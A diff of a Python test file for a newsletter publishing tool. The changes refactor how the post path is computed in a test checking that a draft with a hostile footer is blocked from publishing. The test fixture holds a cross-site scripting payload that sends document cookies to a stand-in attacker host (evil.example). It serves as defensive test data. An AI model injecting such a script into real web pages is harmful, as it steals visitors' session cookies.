@@ -291,14 +291,14 @@ def test_deeply_nested_footer_is_an_error_not_a_crash() -> None:
 
 
 def test_a_hostile_footer_blocks_publishing(home: Path) -> None:
-    from aidaily.review.publish import post_path, publish_draft
+    from aidaily.review.publish import publish_draft
 
     clean = DRAFT.replace(BAD_BULLET, GOOD_BULLET)
     hostile = clean.replace(FOOTER, FOOTER + '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>')
     settings = build_home(home, draft=hostile)
     with pytest.raises(PublishError, match=r"footer-html.*<script>"):
         publish_draft(settings, date.fromisoformat(DAY))
-    assert not post_path(settings, date.fromisoformat(DAY)).exists()
+    assert not settings.post_path(date.fromisoformat(DAY)).exists()
     settings = build_home(home, draft=clean)  # the same draft with the house footer goes out
     assert publish_draft(settings, date.fromisoformat(DAY)).path.exists()
 
